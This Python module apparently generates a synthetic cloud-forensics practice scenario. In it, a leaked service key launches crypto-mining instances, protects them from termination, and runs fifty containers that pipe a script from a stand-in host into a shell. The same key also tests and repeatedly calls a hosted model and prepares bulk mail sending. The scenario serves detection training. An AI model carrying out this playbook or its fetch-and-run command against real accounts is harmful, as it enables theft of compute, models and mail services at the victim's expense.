"""Compute and models used at the company's expense: a look around, launches, containers, models, mail.

The shape follows public reports of mining, of model theft and of mail abuse with leaked keys.
"""

from __future__ import annotations

from typing import Any

from ctforensics.practice import identities
from ctforensics.practice.company import ATTACKER, HOME, PRODUCTION
from ctforensics.practice.identities import Actor
from ctforensics.practice.maker import instant
from ctforensics.practice.stage import Stage, Story
from ctforensics.practice.stories import _everyday
from ctforensics.practice.stories._steps import REFUSED, steps

REGIONS = ("us-east-1", "eu-west-1", "ap-southeast-2")
CLAUDE = "anthropic.claude-sonnet-4-20250514-v1:0"


def script(stage: Stage) -> None:
    _everyday.workdays(stage, 2)
    _everyday.operations(stage)
    _decoys(stage)
    thief = stage.company.user("svc-thumbnails", address=ATTACKER, agent=identities.BOTO)
    stage.clue = thief.key
    _look(stage, thief)
    _launch(stage, thief)
    _containers(stage, thief)
    _models(stage, thief)
    _mail(stage, thief)


def _decoys(stage: Stage) -> None:
    """The company's own batch job, its own model call and a verified address: no part of it."""
    anna = stage.company.console("anna", instant(stage.at(1, "08:30:00")))
    steps(
        stage, 1, anna, "benign_compute", "managed_compute_abuse", "Anna runs the nightly report as a task.",
        ("10:10:00", "ecs", "RunTask", {"cluster": "reports", "taskDefinition": "nightly-report:7", "count": 1, "launchType": "FARGATE"}),
    )  # fmt: skip
    steps(
        stage, 1, anna, "benign_model_call", "model_invocations", "Anna tries a model in the console.",
        ("11:20:00", "bedrock", "Converse", {"modelId": "amazon.nova-lite-v1:0"}, None, {"additional": {"inferenceRegion": HOME}}),
    )  # fmt: skip


def _look(stage: Stage, thief: Actor) -> None:
    first = stage.play(stage.at(2, "01:00:04"), thief, "sts", "GetCallerIdentity")
    stage.fact("first_use", "caller_identity_checks", "The key answers from a foreign address.", first)
    swept = []
    for n, region in enumerate(REGIONS):
        for m, name in enumerate(("DescribeInstances", "DescribeVpcs", "DescribeInstanceTypes")):
            at = stage.at(2, f"01:0{n + 1}:{m * 9:02}")
            swept.append(stage.play(at, thief, "ec2", name, region=region, params={"filterSet": {}}))
    stage.fact("sweep", "infrastructure_sweep", "Three kinds of calls in three regions.", *swept)
    asked: list[tuple[Any, ...]] = [
        ("01:05:00", "servicequotas", "ListServiceQuotas", {"serviceCode": "ec2"}),
        ("01:05:20", "servicequotas", "GetServiceQuota", {"serviceCode": "ec2", "quotaCode": "L-417A185B"}),
        ("01:05:41", "ce", "GetCostAndUsage", None, REFUSED, {"denied_on": f"arn:aws:ce:us-east-1:{PRODUCTION}:/GetCostAndUsage"}),
    ]  # fmt: skip
    steps(
        stage, 2, thief, "quotas_asked", "quota_and_cost_recon", "Quotas of machines are looked up, costs refused.", *asked
    )  # fmt: skip


def _wanted(kind: str, count: int, **more: Any) -> dict[str, Any]:
    item = {"imageId": "ami-0f1e2d3c4b5a69788", "minCount": count, "maxCount": count}
    return {"instancesSet": {"items": [item]}, "instanceType": kind, "blockDeviceMapping": {}, **more}


def _launch(stage: Stage, thief: Actor) -> None:
    region, ids = "ap-southeast-2", [stage.company.ids.resource("i", "miner", n) for n in range(6)]
    made = {
        "reservationId": stage.company.ids.resource("r", "miner"), "ownerId": PRODUCTION, "groupSet": {},
        "instancesSet": {"items": [{
            "instanceId": i, "imageId": "ami-0f1e2d3c4b5a69788", "instanceType": "c5.9xlarge",
            "privateIpAddress": f"10.9.0.{n + 10}", "instanceState": {"code": 0, "name": "pending"},
        } for n, i in enumerate(ids)]},
    }  # fmt: skip
    limit = {
        "error": "Client.VcpuLimitExceeded", "region": region,
        "message": "You have requested more vCPU capacity than your current vCPU limit of 64 allows for the instance bucket that the specified instance type belongs to.",
    }  # fmt: skip
    asked = _wanted("c5.9xlarge", 6, disableApiTermination=True, userData="<sensitiveDataRemoved>", keyName="k")
    fleet = {"spotFleetRequestConfig": {"targetCapacity": 20, "iamFleetRole": "arn:aws:iam::111122223333:role/fleet"}}
    steps(
        stage, 2, thief, "launches", "compute_abuse_launches", "Accelerated types run into limits, large ones start.",
        ("01:20:10", "ec2", "RunInstances", _wanted("p3.16xlarge", 2), None, limit),
        ("01:21:45", "ec2", "RunInstances", asked, made, {"region": region}),
        ("01:23:02", "ec2", "RequestSpotFleet", fleet, REFUSED, {"region": region}),
    )  # fmt: skip
    protect = {"instanceId": ids[0], "disableApiTermination": {"value": True}}
    steps(
        stage, 2, thief, "protected", "instance_state_changes", "A miner is protected against termination.",
        ("01:25:30", "ec2", "ModifyInstanceAttribute", protect, {"_return": True}, {"region": region}),
    )  # fmt: skip


def _containers(stage: Stage, thief: Actor) -> None:
    task = {
        "family": "worker", "cpu": "4096", "memory": "8192", "networkMode": "awsvpc", "requiresCompatibilities": ["FARGATE"],
        "containerDefinitions": [{
            "name": "w", "image": "docker.io/library/busybox:latest", "essential": True,
            "command": ["sh", "-c", "wget -qO- https://example.com/w.sh | sh"]}],
    }  # fmt: skip
    service = {"cluster": "c1", "serviceName": "s1", "taskDefinition": "worker:1", "desiredCount": 50, "launchType": "FARGATE"}  # fmt: skip
    steps(
        stage, 2, thief, "containers", "ecs_changes", "Fifty tasks of a public image that fetches a script.",
        ("01:40:01", "ecs", "CreateCluster", {"clusterName": "c1"}),
        ("01:40:22", "ecs", "RegisterTaskDefinition", task),
        ("01:40:50", "ecs", "CreateService", service),
    )  # fmt: skip
    steps(
        stage, 2, thief, "other_compute", "managed_compute_abuse", "Services that the account never used.",
        ("01:44:00", "lightsail", "CreateInstances", {"instanceNames": ["a1", "a2"], "bundleId": "xlarge_3_0", "availabilityZone": "us-east-1a"}),
        ("01:45:10", "codebuild", "CreateProject", {"name": "p1", "environment": {"image": "aws/codebuild/standard:7.0"}}, REFUSED, {"denied_on": f"arn:aws:codebuild:us-east-1:{PRODUCTION}:project/p1"}),
    )  # fmt: skip


def _models(stage: Stage, thief: Actor) -> None:
    wrong = {"error": "ValidationException", "message": "max_tokens: must be greater than or equal to 1"}
    called = [(f"02:0{n}:30", "bedrock", "InvokeModel", {"modelId": CLAUDE}, None, {"region": "eu-west-1"}) for n in range(6)]  # fmt: skip
    steps(
        stage, 2, thief, "models_taken", "llmjacking_score", "Access to models is asked for and tested.",
        ("01:50:00", "bedrock", "ListFoundationModels", None),
        ("01:50:30", "bedrock", "GetModelInvocationLoggingConfiguration", None),
        ("01:51:00", "bedrock", "GetFoundationModelAvailability", {"modelId": CLAUDE}),
        ("01:52:00", "bedrock", "PutUseCaseForModelAccess", {"formData": "HIDDEN_DUE_TO_SECURITY_REASONS"}),
        ("01:53:00", "bedrock", "InvokeModel", {"modelId": CLAUDE}, None, wrong),
    )  # fmt: skip
    steps(stage, 2, thief, "models_called", "model_invocations", "A model is called again and again.", *called)


def _mail(stage: Stage, thief: Actor) -> None:
    steps(
        stage, 2, thief, "mail_limits", "mail_and_sms_quota_recon", "How much mail may be sent, region by region.",
        ("02:20:00", "ses", "GetSendQuota", None), ("02:20:07", "ses", "GetSendQuota", None, None, {"region": "eu-west-1"}),
        ("02:20:15", "sns", "GetSMSAttributes", {"attributes": []}),
        ("02:20:29", "ses", "ListIdentities", None, REFUSED),
    )  # fmt: skip
    details = {"productionAccessEnabled": True, "mailType": "MARKETING", "websiteURL": "https://shop.example.com", "useCaseDescription": "news"}  # fmt: skip
    steps(
        stage, 2, thief, "mail_prepared", "mail_sending_preparation", "A domain is verified, the sandbox left.",
        ("02:25:00", "ses", "CreateEmailIdentity", {"emailIdentity": "shop.example.com"}),
        ("02:26:10", "ses", "PutAccountDetails", details),
        ("02:27:40", "iam", "CreateUser", {"userName": "ses-smtp-user.20260303-022740"}),
        ("02:29:00", "servicequotas", "RequestServiceQuotaIncrease", {"serviceCode": "ses", "quotaCode": "L-804C8AE8", "desiredValue": 50000}),
    )  # fmt: skip


STORY = Story(
    name="compute_abuse",
    title="Compute, models and mail used by somebody else",
    about="One account, three regions, two days: a key of a small service looks around, launches, calls models, prepares mail.",
    script=script,
    hours=48,
    events=900,
    regions=REGIONS,
)
